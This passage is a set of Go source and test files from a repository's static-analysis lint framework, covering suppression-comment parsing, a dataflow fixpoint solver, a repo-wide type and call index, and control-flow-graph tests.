		if pi.Column != pj.Column {
			return pi.Column < pj.Column
		}
		if diags[i].Analyzer != diags[j].Analyzer {
			return diags[i].Analyzer < diags[j].Analyzer
		}
		return diags[i].Message < diags[j].Message
	})
}
