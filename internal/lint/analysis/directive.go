package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"strings"
)

// DirectiveAnalyzerName tags diagnostics produced by the directive parser
// itself (malformed //lint:allow comments).
const DirectiveAnalyzerName = "lintdirective"

// directivePrefix introduces a suppression comment.
const directivePrefix = "//lint:allow"

// An allowDirective is one well-formed //lint:allow comment.
type allowDirective struct {
	analyzer string
	// line is the line the directive waives findings on: the directive's
	// own line for a trailing comment, the following line for a
	// stand-alone comment.
	line int
	file string
}

// ParseDirectives extracts every //lint:allow directive from files. Well-
// formed directives come back as a suppression index; malformed ones come
// back as diagnostics so an unreasoned waiver can never silently disable a
// check.
func ParseDirectives(fset *token.FileSet, files []*ast.File) (*Suppressions, []Diagnostic) {
	sup := &Suppressions{index: make(map[suppressionKey]bool), used: make(map[suppressionKey]bool)}
	var diags []Diagnostic
	for _, f := range files {
		// Lines that hold any non-comment tokens: a directive on such a
		// line targets that line; a directive alone on its line targets
		// the next one.
		codeLines := make(map[int]bool)
		ast.Inspect(f, func(n ast.Node) bool {
			if n == nil {
				return false
			}
			if _, isComment := n.(*ast.Comment); isComment {
				return false
			}
			if _, isGroup := n.(*ast.CommentGroup); isGroup {
				return false
			}
			if _, isFile := n.(*ast.File); isFile {
				return true
			}
			// Mark only the node's boundary lines, not its whole span:
			// a multi-line composite (FuncDecl, BlockStmt) has interior
			// lines that belong to its children, and a comment-only line
			// inside it must still count as comment-only.
			codeLines[fset.Position(n.Pos()).Line] = true
			codeLines[fset.Position(n.End()).Line] = true
			return true
		})

		for _, cg := range f.Comments {
			for _, c := range cg.List {
				if !isDirective(c.Text) {
					continue
				}
				pos := fset.Position(c.Pos())
				name, ok := parseAllowBody(c.Text)
				if !ok {
					diags = append(diags, Diagnostic{
						Pos:      c.Pos(),
						Analyzer: DirectiveAnalyzerName,
						Message:  "malformed lint:allow directive: want //lint:allow <analyzer>(<reason>) with a non-empty reason",
					})
					continue
				}
				target := pos.Line
				if !codeLines[pos.Line] {
					target = pos.Line + 1
				}
				key := suppressionKey{file: pos.Filename, line: target, analyzer: name}
				sup.index[key] = true
				sup.entries = append(sup.entries, directiveEntry{key: key, pos: c.Pos()})
			}
		}
	}
	return sup, diags
}

// isDirective reports whether the comment is a //lint:allow directive
// (well-formed or not). "//lint:allowfoo" is an unrelated comment, not a
// malformed directive.
func isDirective(text string) bool {
	if !strings.HasPrefix(text, directivePrefix) {
		return false
	}
	rest := text[len(directivePrefix):]
	return rest == "" || rest[0] == ' ' || rest[0] == '\t' || rest[0] == '('
}

// parseAllowBody validates "//lint:allow name(reason)" and returns the
// analyzer name. It fails on a bare directive, a missing or empty reason,
// an unclosed parenthesis, or an empty analyzer name.
func parseAllowBody(text string) (string, bool) {
	body := strings.TrimSpace(strings.TrimPrefix(text, directivePrefix))
	open := strings.IndexByte(body, '(')
	if open <= 0 || !strings.HasSuffix(body, ")") {
		return "", false
	}
	name := strings.TrimSpace(body[:open])
	reason := strings.TrimSpace(body[open+1 : len(body)-1])
	if name == "" || strings.ContainsAny(name, " \t") || reason == "" {
		return "", false
	}
	return name, true
}

// suppressionKey identifies one (file, line, analyzer) waiver.
type suppressionKey struct {
	file     string
	line     int
	analyzer string
}

// directiveEntry records one well-formed directive for the stale-waiver
// audit: its suppression key plus the directive comment's own position.
type directiveEntry struct {
	key suppressionKey
	pos token.Pos
}

// Suppressions indexes the well-formed //lint:allow directives of a
// package and tracks which of them actually fired.
type Suppressions struct {
	index   map[suppressionKey]bool
	used    map[suppressionKey]bool
	entries []directiveEntry
}

// Suppressed reports whether the diagnostic is waived by a directive,
// marking the directive as used when it is. Directive-parser diagnostics
// are never suppressible.
func (s *Suppressions) Suppressed(fset *token.FileSet, d Diagnostic) bool {
	if d.Analyzer == DirectiveAnalyzerName {
		return false
	}
	pos := fset.Position(d.Pos)
	key := suppressionKey{file: pos.Filename, line: pos.Line, analyzer: d.Analyzer}
	if !s.index[key] {
		return false
	}
	s.used[key] = true
	return true
}

// Filter returns diags with suppressed findings removed.
func (s *Suppressions) Filter(fset *token.FileSet, diags []Diagnostic) []Diagnostic {
	out := diags[:0]
	for _, d := range diags {
		if !s.Suppressed(fset, d) {
			out = append(out, d)
		}
	}
	return out
}

// Stale returns one diagnostic per directive that waives an analyzer in
// ran but suppressed nothing this run — the waiver outlived the finding
// it once excused, so the audit trail is rot. Call after Filter. The ran
// set keeps a partial run (banlint -only) from flagging waivers whose
// analyzer never executed.
func (s *Suppressions) Stale(ran map[string]bool) []Diagnostic {
	var out []Diagnostic
	for _, e := range s.entries {
		if !ran[e.key.analyzer] || s.used[e.key] {
			continue
		}
		out = append(out, Diagnostic{
			Pos:      e.pos,
			Analyzer: DirectiveAnalyzerName,
			Message: fmt.Sprintf("stale lint:allow directive: %s reports no diagnostic on its target line; remove the waiver",
				e.key.analyzer),
		})
	}
	return out
}
