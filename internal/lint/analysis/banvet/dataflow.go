package banvet

// Facts is a set of named dataflow facts — tainted variable names for
// evidenceflow, held lock keys for lockorder. The empty map (or nil) is
// the bottom element.
type Facts map[string]bool

// Clone returns an independent copy of f.
func (f Facts) Clone() Facts {
	out := make(Facts, len(f))
	for k := range f {
		out[k] = true
	}
	return out
}

// Union adds every fact in o to f and reports whether f grew.
func (f Facts) Union(o Facts) bool {
	grew := false
	for k := range o {
		if !f[k] {
			f[k] = true
			grew = true
		}
	}
	return grew
}

// Forward runs a forward may-dataflow analysis over the CFG to fixpoint
// and returns the entry fact set of every block. transfer takes a block
// and its entry facts and returns the block's exit facts; it must be
// monotone (never remove a fact that was present on entry unless the
// analysis is defined with kills, in which case convergence still holds
// because the fact lattice is finite and join is union).
//
// Merge at a join point is set union — a fact holds at block entry if it
// holds on ANY predecessor's exit — which is the conservative direction
// for taint ("may be tainted") and for lock tracking ("may be held").
// After the fixpoint, callers typically re-walk each block with its
// final entry facts to report diagnostics at specific nodes.
func Forward(c *CFG, entry Facts, transfer func(*Block, Facts) Facts) map[*Block]Facts {
	in := make(map[*Block]Facts, len(c.Blocks))
	for _, blk := range c.Blocks {
		in[blk] = Facts{}
	}
	in[c.Entry] = entry.Clone()

	// Chaotic iteration in block order; the graphs here are tiny
	// (single function bodies) so a worklist's bookkeeping would cost
	// more than it saves.
	for changed := true; changed; {
		changed = false
		for _, blk := range c.Blocks {
			out := transfer(blk, in[blk].Clone())
			for _, succ := range blk.Succs {
				if in[succ].Union(out) {
					changed = true
				}
			}
		}
	}
	return in
}
