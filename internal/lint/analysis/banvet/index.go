package banvet

import (
	"go/ast"
	"strings"

	"banscore/internal/lint/analysis"
)

// A TypeRef names a defined type: the import path of the package that
// declares it plus the type's name. The zero TypeRef means "unknown" —
// every inference in this package degrades to it rather than guessing.
// Builtins and external (non-repo) types carry their spelled package
// ("" for builtins, the literal import path otherwise), which is enough
// for analyzers to match well-known types like sync.Mutex.
type TypeRef struct {
	Pkg  string
	Name string
}

// IsZero reports whether the reference is the unknown type.
func (t TypeRef) IsZero() bool { return t == TypeRef{} }

// String renders "lastPkgSegment.Name" for diagnostics.
func (t TypeRef) String() string {
	if t.IsZero() {
		return "<unknown>"
	}
	if t.Pkg == "" {
		return t.Name
	}
	pkg := t.Pkg
	if i := strings.LastIndexByte(pkg, '/'); i >= 0 {
		pkg = pkg[i+1:]
	}
	return pkg + "." + t.Name
}

// A Func is one function or method declaration in the indexed repo.
type Func struct {
	// Unit is the package the declaration lives in.
	Unit *analysis.RepoUnit

	// File is the declaring file (for import resolution).
	File *ast.File

	// Decl is the declaration itself.
	Decl *ast.FuncDecl

	// Recv is the receiver's base type; zero for plain functions.
	Recv TypeRef

	// Name is the declared name.
	Name string

	cfg *CFG
	env map[string]TypeRef
}

// QName renders the function for diagnostics: "pkg.Name" or
// "pkg.(Recv).Name".
func (f *Func) QName() string {
	pkg := f.Unit.PkgPath
	if i := strings.LastIndexByte(pkg, '/'); i >= 0 {
		pkg = pkg[i+1:]
	}
	if f.Recv.IsZero() {
		return pkg + "." + f.Name
	}
	return pkg + ".(" + f.Recv.Name + ")." + f.Name
}

// CFG returns the function's control-flow graph, built on first use.
func (f *Func) CFG() *CFG {
	if f.cfg == nil {
		f.cfg = BuildCFG(f.Decl.Body)
	}
	return f.cfg
}

// funcKey identifies a declaration: package path, receiver type name
// ("" for plain functions), declared name.
type funcKey struct {
	pkg  string
	recv string
	name string
}

// An Index is the whole-repo view the banvet analyzers share: every
// function declaration, every struct's field types, and per-file import
// tables, with call-site resolution layered on top.
type Index struct {
	// Units are the indexed packages, in load order.
	Units []*analysis.RepoUnit

	// Funcs is every indexed declaration, in deterministic (unit, file,
	// decl) order.
	Funcs []*Func

	byKey  map[funcKey]*Func
	byName map[string][]*Func

	// structs maps a struct type to its field-name → field-type table.
	// Field types are element-unwrapped: a field []peerShard indexes as
	// peerShard, so `t.shards[i].mu` resolves through the slice.
	structs map[TypeRef]map[string]TypeRef

	// imports caches each file's local-name → import-path table.
	imports map[*ast.File]map[string]string

	// unitPaths are the loaded import paths, for suffix-resolving
	// fixture imports (a fixture's `import "a"` matches the loaded
	// module-qualified path ".../testdata/x/a").
	unitPaths []string
}

// NewIndex builds the repo index over units.
func NewIndex(units []*analysis.RepoUnit) *Index {
	ix := &Index{
		Units:   units,
		byKey:   make(map[funcKey]*Func),
		byName:  make(map[string][]*Func),
		structs: make(map[TypeRef]map[string]TypeRef),
		imports: make(map[*ast.File]map[string]string),
	}
	for _, u := range units {
		ix.unitPaths = append(ix.unitPaths, u.PkgPath)
	}
	for _, u := range units {
		for _, file := range u.Files {
			for _, decl := range file.Decls {
				switch d := decl.(type) {
				case *ast.GenDecl:
					ix.indexTypes(u, file, d)
				case *ast.FuncDecl:
					ix.indexFunc(u, file, d)
				}
			}
		}
	}
	return ix
}

func (ix *Index) indexTypes(u *analysis.RepoUnit, file *ast.File, d *ast.GenDecl) {
	for _, spec := range d.Specs {
		ts, ok := spec.(*ast.TypeSpec)
		if !ok {
			continue
		}
		st, ok := ts.Type.(*ast.StructType)
		if !ok {
			continue
		}
		owner := TypeRef{Pkg: u.PkgPath, Name: ts.Name.Name}
		fields := make(map[string]TypeRef)
		for _, field := range st.Fields.List {
			ft := ix.resolveTypeExpr(u, file, field.Type)
			if len(field.Names) == 0 {
				// Embedded field: named by the base type name.
				if !ft.IsZero() {
					fields[ft.Name] = ft
				}
				continue
			}
			for _, name := range field.Names {
				fields[name.Name] = ft
			}
		}
		ix.structs[owner] = fields
	}
}

func (ix *Index) indexFunc(u *analysis.RepoUnit, file *ast.File, d *ast.FuncDecl) {
	f := &Func{Unit: u, File: file, Decl: d, Name: d.Name.Name}
	if d.Recv != nil && len(d.Recv.List) == 1 {
		f.Recv = ix.resolveTypeExpr(u, file, d.Recv.List[0].Type)
	}
	ix.Funcs = append(ix.Funcs, f)
	ix.byKey[funcKey{pkg: u.PkgPath, recv: f.Recv.Name, name: f.Name}] = f
	ix.byName[f.Name] = append(ix.byName[f.Name], f)
}

// Struct returns the field-type table of the named struct, nil if the
// type is not an indexed struct.
func (ix *Index) Struct(t TypeRef) map[string]TypeRef { return ix.structs[t] }

// Lookup finds the declaration for (pkg, recv, name); nil if absent.
func (ix *Index) Lookup(pkg, recv, name string) *Func {
	return ix.byKey[funcKey{pkg: pkg, recv: recv, name: name}]
}

// FileImports returns file's local-name → import-path table, with import
// paths resolved against the loaded units (suffix matching, so fixture
// packages that import by short path find their module-qualified unit).
func (ix *Index) FileImports(file *ast.File) map[string]string {
	if m, ok := ix.imports[file]; ok {
		return m
	}
	m := make(map[string]string)
	for _, imp := range file.Imports {
		if imp.Path == nil || len(imp.Path.Value) < 2 {
			continue
		}
		path := ix.resolveImportPath(imp.Path.Value[1 : len(imp.Path.Value)-1])
		name := path
		if i := strings.LastIndexByte(path, '/'); i >= 0 {
			name = path[i+1:]
		}
		if imp.Name != nil {
			name = imp.Name.Name
		}
		m[name] = path
	}
	ix.imports[file] = m
	return m
}

// resolveImportPath maps a spelled import path to the loaded unit path
// it denotes: an exact match, else the unique loaded path ending in
// "/"+path, else the spelled path itself (an external package).
func (ix *Index) resolveImportPath(path string) string {
	var suffix string
	for _, up := range ix.unitPaths {
		if up == path {
			return up
		}
		if strings.HasSuffix(up, "/"+path) {
			if suffix != "" && suffix != up {
				return path // ambiguous; keep the spelled path
			}
			suffix = up
		}
	}
	if suffix != "" {
		return suffix
	}
	return path
}

// elemType unwraps pointers, slices, arrays, maps (to the value type),
// channels, parens, and variadic markers down to the named element type
// expression. This is the right shape for field and variable typing: the
// interesting selectors (`x.mu`, `shards[i].mu`) address the element.
func elemType(e ast.Expr) ast.Expr {
	for {
		switch t := e.(type) {
		case *ast.ParenExpr:
			e = t.X
		case *ast.StarExpr:
			e = t.X
		case *ast.ArrayType:
			e = t.Elt
		case *ast.MapType:
			e = t.Value
		case *ast.ChanType:
			e = t.Value
		case *ast.Ellipsis:
			e = t.Elt
		case *ast.IndexExpr: // generic instantiation Type[T]
			e = t.X
		default:
			return e
		}
	}
}

// resolveTypeExpr resolves a type expression appearing in unit/file to a
// TypeRef, element-unwrapping composites. Unresolvable shapes (anonymous
// structs, interfaces, func types) come back zero.
func (ix *Index) resolveTypeExpr(u *analysis.RepoUnit, file *ast.File, e ast.Expr) TypeRef {
	switch t := elemType(e).(type) {
	case *ast.Ident:
		if isBuiltinType(t.Name) {
			return TypeRef{Pkg: "", Name: t.Name}
		}
		return TypeRef{Pkg: u.PkgPath, Name: t.Name}
	case *ast.SelectorExpr:
		base, ok := t.X.(*ast.Ident)
		if !ok {
			return TypeRef{}
		}
		path, ok := ix.FileImports(file)[base.Name]
		if !ok {
			return TypeRef{}
		}
		return TypeRef{Pkg: path, Name: t.Sel.Name}
	default:
		return TypeRef{}
	}
}

// builtinTypes is the set of predeclared type names, kept so a builtin
// is never attributed to the declaring package.
var builtinTypes = map[string]bool{
	"bool": true, "byte": true, "complex64": true, "complex128": true,
	"error": true, "float32": true, "float64": true, "int": true,
	"int8": true, "int16": true, "int32": true, "int64": true,
	"rune": true, "string": true, "uint": true, "uint8": true,
	"uint16": true, "uint32": true, "uint64": true, "uintptr": true,
	"any": true,
}

func isBuiltinType(name string) bool { return builtinTypes[name] }

// Env returns the function's local variable-name → type table: the
// receiver, the parameters, and every local whose type a single
// flow-insensitive pass can infer (typed var declarations, composite
// literals, address-of composites, calls to indexed constructors with
// one result, range over a typed collection). Later bindings shadow
// earlier ones; flow-sensitivity is deliberately out of scope — the
// repo style does not reuse a name at two types within one function.
func (ix *Index) Env(f *Func) map[string]TypeRef {
	if f.env != nil {
		return f.env
	}
	env := make(map[string]TypeRef)
	if f.Decl.Recv != nil && len(f.Decl.Recv.List) == 1 {
		for _, name := range f.Decl.Recv.List[0].Names {
			env[name.Name] = f.Recv
		}
	}
	addFields := func(fl *ast.FieldList) {
		if fl == nil {
			return
		}
		for _, field := range fl.List {
			t := ix.resolveTypeExpr(f.Unit, f.File, field.Type)
			for _, name := range field.Names {
				env[name.Name] = t
			}
		}
	}
	addFields(f.Decl.Type.Params)
	addFields(f.Decl.Type.Results)

	if f.Decl.Body != nil {
		ast.Inspect(f.Decl.Body, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.DeclStmt:
				gd, ok := n.Decl.(*ast.GenDecl)
				if !ok {
					return true
				}
				for _, spec := range gd.Specs {
					vs, ok := spec.(*ast.ValueSpec)
					if !ok || vs.Type == nil {
						continue
					}
					t := ix.resolveTypeExpr(f.Unit, f.File, vs.Type)
					for _, name := range vs.Names {
						env[name.Name] = t
					}
				}
			case *ast.AssignStmt:
				ix.bindAssign(f, env, n)
			case *ast.RangeStmt:
				if v, ok := n.Value.(*ast.Ident); ok {
					if t := ix.TypeOf(f, env, n.X); !t.IsZero() {
						env[v.Name] = t
					}
				}
			}
			return true
		})
	}
	f.env = env
	return env
}

// bindAssign records the types the assignment gives its identifier
// targets, when inferable.
func (ix *Index) bindAssign(f *Func, env map[string]TypeRef, a *ast.AssignStmt) {
	if len(a.Lhs) == len(a.Rhs) {
		for i, lhs := range a.Lhs {
			id, ok := lhs.(*ast.Ident)
			if !ok || id.Name == "_" {
				continue
			}
			if t := ix.TypeOf(f, env, a.Rhs[i]); !t.IsZero() {
				env[id.Name] = t
			}
		}
		return
	}
	// Multi-value form: x, y := call(). Bind from the callee's result
	// list when the call resolves uniquely.
	if len(a.Rhs) != 1 {
		return
	}
	call, ok := a.Rhs[0].(*ast.CallExpr)
	if !ok {
		return
	}
	callees, exact := ix.Callees(f, env, call)
	if !exact || len(callees) != 1 {
		return
	}
	results := callees[0].Decl.Type.Results
	if results == nil {
		return
	}
	var types []TypeRef
	for _, field := range results.List {
		t := ix.resolveTypeExpr(callees[0].Unit, callees[0].File, field.Type)
		n := len(field.Names)
		if n == 0 {
			n = 1
		}
		for j := 0; j < n; j++ {
			types = append(types, t)
		}
	}
	if len(types) != len(a.Lhs) {
		return
	}
	for i, lhs := range a.Lhs {
		if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" {
			env[id.Name] = types[i]
		}
	}
}

// TypeOf infers the type of an expression inside f given the local env.
// Zero when no syntactic rule applies.
func (ix *Index) TypeOf(f *Func, env map[string]TypeRef, e ast.Expr) TypeRef {
	switch e := e.(type) {
	case *ast.Ident:
		return env[e.Name]
	case *ast.ParenExpr:
		return ix.TypeOf(f, env, e.X)
	case *ast.StarExpr:
		return ix.TypeOf(f, env, e.X)
	case *ast.UnaryExpr:
		if e.Op.String() == "&" {
			return ix.TypeOf(f, env, e.X)
		}
	case *ast.IndexExpr:
		// Field types are element-unwrapped at index time, so the
		// container expression's type already names the element.
		return ix.TypeOf(f, env, e.X)
	case *ast.SelectorExpr:
		base := ix.TypeOf(f, env, e.X)
		if !base.IsZero() {
			if fields := ix.structs[base]; fields != nil {
				return fields[e.Sel.Name]
			}
			return TypeRef{}
		}
		return TypeRef{}
	case *ast.CompositeLit:
		if e.Type != nil {
			return ix.resolveTypeExpr(f.Unit, f.File, e.Type)
		}
	case *ast.TypeAssertExpr:
		if e.Type != nil {
			return ix.resolveTypeExpr(f.Unit, f.File, e.Type)
		}
	case *ast.CallExpr:
		callees, exact := ix.Callees(f, env, e)
		if exact && len(callees) == 1 {
			results := callees[0].Decl.Type.Results
			if results != nil && len(results.List) == 1 && len(results.List[0].Names) <= 1 {
				return ix.resolveTypeExpr(callees[0].Unit, callees[0].File, results.List[0].Type)
			}
		}
	}
	return TypeRef{}
}

// Callees resolves a call site to the indexed declarations it may reach.
// exact reports confidence: true when the resolution followed a typed
// receiver, an import-qualified name, or a same-package function name;
// false when it fell back to matching every indexed method of that name
// (the caller should treat the result as a may-set). An empty result
// with exact=true means the callee is definitively outside the index
// (stdlib, builtin); empty with exact=false means nothing matched at
// all.
func (ix *Index) Callees(f *Func, env map[string]TypeRef, call *ast.CallExpr) ([]*Func, bool) {
	switch fun := elemType(call.Fun).(type) {
	case *ast.Ident:
		// Same-package function (or builtin/conversion — those simply
		// miss the index).
		if g := ix.Lookup(f.Unit.PkgPath, "", fun.Name); g != nil {
			return []*Func{g}, true
		}
		return nil, true
	case *ast.SelectorExpr:
		if base, ok := fun.X.(*ast.Ident); ok {
			if _, isLocal := env[base.Name]; !isLocal {
				if path, isImport := ix.FileImports(f.File)[base.Name]; isImport {
					if g := ix.Lookup(path, "", fun.Sel.Name); g != nil {
						return []*Func{g}, true
					}
					return nil, true // external package call
				}
			}
		}
		// Method call: type the receiver expression.
		recv := ix.TypeOf(f, env, fun.X)
		if !recv.IsZero() {
			if g := ix.Lookup(recv.Pkg, recv.Name, fun.Sel.Name); g != nil {
				return []*Func{g}, true
			}
			return nil, true // method on an external/unindexed type
		}
		// Unknown receiver: fall back to every indexed method of this
		// name — the conservative may-set.
		var out []*Func
		for _, g := range ix.byName[fun.Sel.Name] {
			if !g.Recv.IsZero() {
				out = append(out, g)
			}
		}
		return out, false
	}
	return nil, false
}
