package banvet

import (
	"go/ast"
	"go/parser"
	"go/token"
	"testing"

	"banscore/internal/lint/analysis"
)

// unit parses one source file into a RepoUnit for index tests.
func unit(t *testing.T, path, src string) *analysis.RepoUnit {
	t.Helper()
	fset := token.NewFileSet()
	file, err := parser.ParseFile(fset, path+"/t.go", src, parser.ParseComments)
	if err != nil {
		t.Fatalf("parse %s: %v", path, err)
	}
	return &analysis.RepoUnit{
		Fset:    fset,
		Files:   []*ast.File{file},
		PkgName: file.Name.Name,
		PkgPath: path,
	}
}

func TestIndexStructFieldsElementUnwrapped(t *testing.T) {
	u := unit(t, "repo/core", `package core
import "sync"
type shard struct{ mu sync.Mutex }
type Tracker struct {
	shards []shard
	byID   map[int]*shard
}
`)
	ix := NewIndex([]*analysis.RepoUnit{u})
	fields := ix.Struct(TypeRef{Pkg: "repo/core", Name: "Tracker"})
	if fields == nil {
		t.Fatal("Tracker not indexed")
	}
	want := TypeRef{Pkg: "repo/core", Name: "shard"}
	if fields["shards"] != want {
		t.Errorf("shards field = %v, want %v (slice elem-unwrapped)", fields["shards"], want)
	}
	if fields["byID"] != want {
		t.Errorf("byID field = %v, want %v (map value, pointer-unwrapped)", fields["byID"], want)
	}
	sf := ix.Struct(TypeRef{Pkg: "repo/core", Name: "shard"})
	if got := sf["mu"]; got != (TypeRef{Pkg: "sync", Name: "Mutex"}) {
		t.Errorf("shard.mu = %v, want sync.Mutex", got)
	}
}

func TestIndexMethodLookupAndQName(t *testing.T) {
	u := unit(t, "repo/core", `package core
type Tracker struct{}
func (t *Tracker) Misbehaving(id int) {}
func New() *Tracker { return &Tracker{} }
`)
	ix := NewIndex([]*analysis.RepoUnit{u})
	m := ix.Lookup("repo/core", "Tracker", "Misbehaving")
	if m == nil {
		t.Fatal("method not indexed")
	}
	if got := m.QName(); got != "core.(Tracker).Misbehaving" {
		t.Errorf("QName = %q", got)
	}
	if f := ix.Lookup("repo/core", "", "New"); f == nil || f.QName() != "core.New" {
		t.Errorf("plain function lookup failed: %v", f)
	}
}

func TestEnvTypesReceiverParamsAndLocals(t *testing.T) {
	u := unit(t, "repo/core", `package core
type shard struct{}
type Tracker struct{ shards []shard }
func New() *Tracker { return &Tracker{} }
func (t *Tracker) use(other *Tracker) {
	s := t.shards[0]
	lit := Tracker{}
	fresh := New()
	_ = s; _ = lit; _ = fresh
}
`)
	ix := NewIndex([]*analysis.RepoUnit{u})
	f := ix.Lookup("repo/core", "Tracker", "use")
	env := ix.Env(f)
	tracker := TypeRef{Pkg: "repo/core", Name: "Tracker"}
	cases := map[string]TypeRef{
		"t":     tracker,
		"other": tracker,
		"s":     {Pkg: "repo/core", Name: "shard"},
		"lit":   tracker,
		"fresh": tracker, // constructor result
	}
	for name, want := range cases {
		if env[name] != want {
			t.Errorf("env[%q] = %v, want %v", name, env[name], want)
		}
	}
}

func TestCalleesCrossPackage(t *testing.T) {
	core := unit(t, "repo/internal/core", `package core
type Tracker struct{}
func (t *Tracker) Misbehaving(id int) {}
`)
	node := unit(t, "repo/internal/node", `package node
import "repo/internal/core"
type Node struct{ tracker *core.Tracker }
func (n *Node) handle() {
	n.tracker.Misbehaving(7)
}
`)
	ix := NewIndex([]*analysis.RepoUnit{core, node})
	f := ix.Lookup("repo/internal/node", "Node", "handle")
	var call *ast.CallExpr
	ast.Inspect(f.Decl.Body, func(n ast.Node) bool {
		if c, ok := n.(*ast.CallExpr); ok {
			call = c
		}
		return true
	})
	callees, exact := ix.Callees(f, ix.Env(f), call)
	if !exact || len(callees) != 1 {
		t.Fatalf("Callees = %v (exact=%v), want the one Tracker method", callees, exact)
	}
	if callees[0].QName() != "core.(Tracker).Misbehaving" {
		t.Errorf("resolved %s", callees[0].QName())
	}
}

func TestCalleesSuffixImportResolution(t *testing.T) {
	// Fixture packages import by short path ("a") while the loader derives
	// module-qualified unit paths (".../testdata/tree/a"); resolution must
	// bridge them.
	a := unit(t, "repo/lint/testdata/tree/a", `package a
func Helper() {}
`)
	b := unit(t, "repo/lint/testdata/tree/b", `package b
import "a"
func Use() { a.Helper() }
`)
	ix := NewIndex([]*analysis.RepoUnit{a, b})
	f := ix.Lookup("repo/lint/testdata/tree/b", "", "Use")
	var call *ast.CallExpr
	ast.Inspect(f.Decl.Body, func(n ast.Node) bool {
		if c, ok := n.(*ast.CallExpr); ok {
			call = c
		}
		return true
	})
	callees, exact := ix.Callees(f, ix.Env(f), call)
	if !exact || len(callees) != 1 || callees[0].Name != "Helper" {
		t.Fatalf("suffix import resolution failed: %v exact=%v", callees, exact)
	}
}

func TestCalleesUnknownReceiverFallsBack(t *testing.T) {
	core := unit(t, "repo/internal/core", `package core
type Tracker struct{}
func (t *Tracker) Penalize(id int) {}
`)
	other := unit(t, "repo/internal/other", `package other
func Use(x interface{ Penalize(int) }) {
	x.Penalize(1)
}
`)
	ix := NewIndex([]*analysis.RepoUnit{core, other})
	f := ix.Lookup("repo/internal/other", "", "Use")
	var call *ast.CallExpr
	ast.Inspect(f.Decl.Body, func(n ast.Node) bool {
		if c, ok := n.(*ast.CallExpr); ok {
			call = c
		}
		return true
	})
	callees, exact := ix.Callees(f, ix.Env(f), call)
	if exact {
		t.Fatal("interface receiver should not resolve exactly")
	}
	if len(callees) != 1 || callees[0].QName() != "core.(Tracker).Penalize" {
		t.Fatalf("fallback may-set = %v", callees)
	}
}
