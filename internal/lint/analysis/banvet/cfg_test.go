package banvet

import (
	"go/ast"
	"go/parser"
	"go/token"
	"testing"
)

// parseBody parses a function body from source for CFG tests.
func parseBody(t *testing.T, body string) *ast.BlockStmt {
	t.Helper()
	src := "package p\nfunc f() {\n" + body + "\n}\n"
	fset := token.NewFileSet()
	file, err := parser.ParseFile(fset, "t.go", src, 0)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return file.Decls[0].(*ast.FuncDecl).Body
}

// reachable returns the set of blocks reachable from entry.
func reachable(c *CFG) map[*Block]bool {
	seen := map[*Block]bool{}
	var walk func(*Block)
	walk = func(b *Block) {
		if seen[b] {
			return
		}
		seen[b] = true
		for _, s := range b.Succs {
			walk(s)
		}
	}
	walk(c.Entry)
	return seen
}

func TestCFGStraightLine(t *testing.T) {
	c := BuildCFG(parseBody(t, "x := 1\ny := x\n_ = y"))
	if len(c.Entry.Nodes) != 3 {
		t.Fatalf("entry nodes = %d, want 3", len(c.Entry.Nodes))
	}
	if !reachable(c)[c.Exit] {
		t.Fatal("exit unreachable")
	}
}

func TestCFGIfElse(t *testing.T) {
	c := BuildCFG(parseBody(t, `
x := 1
if x > 0 {
	x = 2
} else {
	x = 3
}
_ = x`))
	// Entry holds the condition and branches two ways.
	if len(c.Entry.Succs) != 2 {
		t.Fatalf("cond block succs = %d, want 2", len(c.Entry.Succs))
	}
	if !reachable(c)[c.Exit] {
		t.Fatal("exit unreachable")
	}
}

func TestCFGIfWithoutElseHasFallthroughEdge(t *testing.T) {
	c := BuildCFG(parseBody(t, "x := 1\nif x > 0 {\n\tx = 2\n}\n_ = x"))
	if len(c.Entry.Succs) != 2 {
		t.Fatalf("cond block succs = %d, want 2 (then + skip)", len(c.Entry.Succs))
	}
}

func TestCFGForLoopHasBackEdge(t *testing.T) {
	c := BuildCFG(parseBody(t, "for i := 0; i < 3; i++ {\n\t_ = i\n}"))
	// Some block must have a successor with a smaller index: the back edge.
	back := false
	for _, b := range c.Blocks {
		for _, s := range b.Succs {
			if s.Index < b.Index && s != c.Exit {
				back = true
			}
		}
	}
	if !back {
		t.Fatal("no back edge in for loop")
	}
	if !reachable(c)[c.Exit] {
		t.Fatal("exit unreachable (cond edge to after missing)")
	}
}

func TestCFGInfiniteLoopWithBreak(t *testing.T) {
	c := BuildCFG(parseBody(t, "for {\n\tbreak\n}\nx := 1\n_ = x"))
	if !reachable(c)[c.Exit] {
		t.Fatal("break edge missing: exit unreachable through for{}")
	}
}

func TestCFGRangeZeroIterations(t *testing.T) {
	c := BuildCFG(parseBody(t, "xs := []int{}\nfor _, x := range xs {\n\t_ = x\n}\ny := 1\n_ = y"))
	if !reachable(c)[c.Exit] {
		t.Fatal("range zero-iteration edge missing")
	}
	// The RangeStmt node itself must appear in some block so analyzers
	// can model the key/value binding.
	found := false
	for _, b := range c.Blocks {
		for _, n := range b.Nodes {
			if _, ok := n.(*ast.RangeStmt); ok {
				found = true
			}
		}
	}
	if !found {
		t.Fatal("RangeStmt node not placed in any block")
	}
}

func TestCFGSwitchWithDefault(t *testing.T) {
	c := BuildCFG(parseBody(t, `
x := 1
switch x {
case 1:
	x = 2
case 2:
	x = 3
default:
	x = 4
}
_ = x`))
	// The condition block must branch to all three clauses and, because a
	// default exists, not straight to after.
	if got := len(c.Entry.Succs); got != 3 {
		t.Fatalf("switch cond succs = %d, want 3", got)
	}
}

func TestCFGSwitchWithoutDefaultSkips(t *testing.T) {
	c := BuildCFG(parseBody(t, "x := 1\nswitch x {\ncase 1:\n\tx = 2\n}\n_ = x"))
	if got := len(c.Entry.Succs); got != 2 {
		t.Fatalf("switch cond succs = %d, want 2 (clause + skip)", got)
	}
}

func TestCFGReturnEdgesToExit(t *testing.T) {
	c := BuildCFG(parseBody(t, "x := 1\nif x > 0 {\n\treturn\n}\n_ = x"))
	if !reachable(c)[c.Exit] {
		t.Fatal("exit unreachable")
	}
	// The block holding the return must list Exit as a successor.
	ok := false
	for _, b := range c.Blocks {
		for _, n := range b.Nodes {
			if _, isRet := n.(*ast.ReturnStmt); isRet {
				for _, s := range b.Succs {
					if s == c.Exit {
						ok = true
					}
				}
			}
		}
	}
	if !ok {
		t.Fatal("return block does not edge to Exit")
	}
}

